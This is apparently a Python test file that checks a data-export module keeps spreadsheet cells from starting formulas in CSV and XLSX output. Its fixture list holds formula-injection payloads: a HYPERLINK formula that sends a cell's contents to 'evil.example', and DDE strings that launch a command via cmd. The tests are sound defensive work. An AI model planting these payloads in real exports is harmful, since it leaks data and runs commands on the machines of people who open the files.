"""Exports never let a cell start a formula: hostile names through CSV and XLSX, read back.

The XLSX files are read back with openpyxl, the CSV files with the csv module, as a
spreadsheet would parse them. The control shows that openpyxl does make a formula of
an unguarded "=..." text, so the checks here can fail.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from hub.exports import FORMULA_START, neutralise, to_csv, to_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A2, "Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "Nguyễn Văn An",
    "Rơ Châm H'Hen",
    "'already quoted",
]
HEADERS = ["Họ tên", "Số CCCD", "Lúc (UTC)", "Lượt"]


def _rows() -> list[list[str | int | datetime]]:
    at = datetime(2022, 1, 10, 8, 30, tzinfo=UTC)
    return [[name, "064090123456", at, -1 if i == 0 else i] for i, name in enumerate(HOSTILE)]


def _dangerous(text: str) -> bool:
    return text.startswith(FORMULA_START)


def test_csv_cells_never_start_a_formula_and_keep_the_text() -> None:
    data = to_csv(HEADERS, _rows())
    assert data.startswith(b"\xef\xbb\xbf")  # Excel needs the BOM to read UTF-8
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == HEADERS
    for written, (name, *_rest) in zip(_rows(), rows[1:], strict=True):
        assert not _dangerous(name)
        assert name.removeprefix("'") == written[0] or name == written[0]
    assert rows[1][2] == "2022-01-10T08:30:00"
    assert rows[1][3] == "-1"  # a number stays a number: it was never text from a QR


def test_xlsx_cells_are_text_never_formulas() -> None:
    book = load_workbook(io.BytesIO(to_xlsx(HEADERS, _rows())))
    sheet = book.active
    assert sheet is not None
    values = list(sheet.iter_rows(values_only=False))
    assert [c.value for c in values[0]] == HEADERS
    for row, written in zip(values[1:], _rows(), strict=True):
        name_cell = row[0]
        assert name_cell.data_type == "s"
        assert isinstance(name_cell.value, str) and not _dangerous(name_cell.value)
        # XML turns a stored CR into LF when read; the cell's text is otherwise unchanged.
        original = str(written[0]).replace("\r", "\n")
        assert name_cell.value in (original, "'" + original)
        assert row[2].value == datetime(2022, 1, 10, 8, 30)  # a real date cell
        assert row[3].value == written[3]  # a real number


def test_control_an_unguarded_text_becomes_a_formula() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["=1+1"])
    out = io.BytesIO()
    book.save(out)
    read_back = load_workbook(io.BytesIO(out.getvalue())).active
    assert read_back is not None
    assert read_back["A1"].data_type == "f"


@given(st.text(min_size=1, max_size=40))
def test_any_text_is_neutralised_in_both_formats(text: str) -> None:
    assert not _dangerous(neutralise(text))
    parsed = list(csv.reader(io.StringIO(to_csv(["x"], [[text]]).decode("utf-8-sig"), newline="")))
    assert len(parsed) == 2 and not _dangerous(parsed[1][0] if parsed[1] else "")
